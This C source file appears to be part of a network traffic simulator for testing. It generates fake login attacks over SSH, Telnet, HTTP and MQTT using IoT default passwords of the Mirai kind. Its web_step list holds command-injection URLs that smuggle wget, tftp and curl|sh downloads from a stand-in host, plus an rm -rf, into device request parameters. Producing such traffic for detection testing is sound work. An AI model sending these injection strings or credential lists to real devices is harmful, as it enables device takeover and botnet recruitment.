#include "tests/traffic/attacks.h"

#include "tests/traffic/payload.h"
#include "tests/traffic/verb.h"

#include <stdio.h>

/* Who tries to get in: by passwords, by commands where none belong. */

static bool guess_at(struct simulation *simulation, struct attack *attack,
                     struct host *victim) {
    struct rng *rng = &attack->rng;
    attack->victim = victim;
    if (victim == NULL)
        return false;
    attack->gap_us = exp(rng_between(rng, log(0.4e6), log(5e6)));
    attack->steps = 80 + rng_below(rng, 400);
    attacks_describe(simulation, attack, "%u sessions with %s, one each %.1f s",
                     attack->steps, attack->victim->name, attack->gap_us / 1e6);
    return true;
}

static bool guess_begin(struct simulation *simulation, struct attack *attack) {
    return guess_at(
        simulation, attack,
        attacks_choose(simulation, attacks_anybody, attack->host, &attack->rng));
}

static double guess_again(struct attack *attack) {
    return attack->step + 1 < attack->steps
               ? rng_lognormal(&attack->rng, attack->gap_us, 0.25)
               : -1;
}

/* After three wrong passwords the server hangs up. */
static double guess_ssh_step(struct simulation *simulation, struct attack *attack) {
    if (attacks_open(simulation, attack, 22)) {
        verb_ssh_session(&attack->talk, 3, 52);
        talk_close(&attack->talk, TALK_RESPONDER);
    }
    return guess_again(attack);
}

static double guess_telnet_step(struct simulation *simulation, struct attack *attack) {
    static const char *const users[] = {"root", "admin", "support", "user", "guest"};
    static const char *const words[] = {"xc3511", "vizxv",   "888888",  "123456",
                                        "admin",  "default", "juantech"};
    struct talk *talk = &attack->talk;
    struct message message = {0};
    if (attacks_open(simulation, attack, 23)) {
        message_put(&message, "\xff\xfd\x01\xff\xfd\x1f", 6);
        message_text(&message, "\r\nlogin: ");
        verb_say(talk, TALK_RESPONDER, &message);
        message_print(&message, "%s\r\n", users[rng_below(&attack->rng, 5)]);
        verb_say(talk, TALK_INITIATOR, &message);
        message_text(&message, "Password: ");
        verb_say(talk, TALK_RESPONDER, &message);
        message_print(&message, "%s\r\n", words[rng_below(&attack->rng, 7)]);
        verb_say(talk, TALK_INITIATOR, &message);
        message_text(&message, "\r\nLogin incorrect\r\n");
        verb_say(talk, TALK_RESPONDER, &message);
        talk_close(talk, TALK_RESPONDER);
    }
    return guess_again(attack);
}

/* The pages of a device, for which it wants to know who asks. */
static double guess_web_step(struct simulation *simulation, struct attack *attack) {
    static const char *const logins[] = {"YWRtaW46YWRtaW4=", "cm9vdDpyb290",
                                         "YWRtaW46MTIzNDU2",
                                         "YWRtaW46cGFzc3dvcmQ=", "cm9vdDp2aXp4dg=="};
    struct talk *talk = &attack->talk;
    struct message message = {0};
    if (attacks_open(simulation, attack, 80)) {
        message_print(&message,
                      "GET /index.html HTTP/1.1\r\nHost: %s\r\n"
                      "Authorization: Basic %s\r\n\r\n",
                      attack->victim->name, logins[rng_below(&attack->rng, 5)]);
        verb_say(talk, TALK_INITIATOR, &message);
        message_text(&message, "HTTP/1.1 401 Unauthorized\r\n"
                               "WWW-Authenticate: Basic realm=\"device\"\r\n"
                               "Content-Length: 0\r\nConnection: close\r\n\r\n");
        verb_say(talk, TALK_RESPONDER, &message);
        talk_close(talk, TALK_RESPONDER);
    }
    return guess_again(attack);
}

/* To whom the others publish. */
static struct host *broker(const struct simulation *simulation,
                           const struct host *other) {
    for (size_t i = 0; i < simulation->host_count; i++)
        for (const struct actor *habit = simulation->hosts[i].actors; habit;
             habit = habit->next)
            if (habit->service->verb == VERB_MQTT && habit->target &&
                habit->target != other)
                return habit->target;
    return NULL;
}

static bool guess_mqtt_begin(struct simulation *simulation, struct attack *attack) {
    return guess_at(simulation, attack, broker(simulation, attack->host));
}

static double guess_mqtt_step(struct simulation *simulation, struct attack *attack) {
    struct talk *talk = &attack->talk;
    struct message message = {0};
    char word[12];
    if (attacks_open(simulation, attack, 1883)) {
        snprintf(word, sizeof word, "%08x", (unsigned)rng_next(&attack->rng));
        payload_mqtt_connect(&message, "client", word, 60);
        verb_say(talk, TALK_INITIATOR, &message);
        payload_mqtt_answer(&message, false);
        verb_say(talk, TALK_RESPONDER, &message);
        talk_close(talk, TALK_RESPONDER);
    }
    return guess_again(attack);
}

static bool web_begin(struct simulation *simulation, struct attack *attack) {
    struct rng *rng = &attack->rng;
    attack->victim = attacks_choose(simulation, attacks_anybody, attack->host, rng);
    if (attack->victim == NULL)
        return false;
    attack->port = (uint16_t)(rng_chance(rng, 0.6) ? 80 : 8080);
    attack->steps = 3 + rng_below(rng, 8);
    attack->gap_us = exp(rng_between(rng, log(0.5e6), log(30e6)));
    attacks_describe(simulation, attack, "%u URLs with commands for %s", attack->steps,
                     attack->victim->name);
    return true;
}

static double web_step(struct simulation *simulation, struct attack *attack) {
    static const char *const paths[] = {
        "/apply.cgi?button=ping&target=127.0.0.1;wget+http://dl.example/m+-O+/tmp/m",
        "/goform/diagnose?host=%60busybox%20tftp%20-g%20-r%20m%20dl.example%60",
        "/shell?cd+/tmp;rm+-rf+*;wget+http://dl.example/m.sh;sh+m.sh",
        "/language/en$(curl%20http://dl.example/m|sh)/index.html",
    };
    struct talk *talk = &attack->talk;
    struct message message = {0};
    if (attacks_open(simulation, attack, attack->port)) {
        payload_http_get(&message, attack->victim->name,
                         paths[rng_below(&attack->rng, 4)], "Hello");
        verb_say(talk, TALK_INITIATOR, &message);
        payload_http_ok(&message, "text/html", 0);
        verb_say(talk, TALK_RESPONDER, &message);
        talk_close(talk, TALK_RESPONDER);
    }
    return guess_again(attack);
}

const struct attack_kind attacks_login[] = {
    {"password-guessing", "many short SSH sessions", 15, false, ATTACKS_THINGS,
     guess_begin, guess_ssh_step, NULL},
    {"telnet-guessing", "many short Telnet sessions, in clear", 10, false,
     ATTACKS_THINGS, guess_begin, guess_telnet_step, NULL},
    {"web-guessing", "passwords for the pages of a device", 10, false, ATTACKS_THINGS,
     guess_begin, guess_web_step, NULL},
    {"mqtt-guessing", "passwords for a broker", 10, false, ATTACKS_THINGS,
     guess_mqtt_begin, guess_mqtt_step, NULL},
    {"web-attack", "commands for a shell in URLs", 6, false, ATTACKS_THINGS, web_begin,
     web_step, NULL},
    {.name = NULL},
};
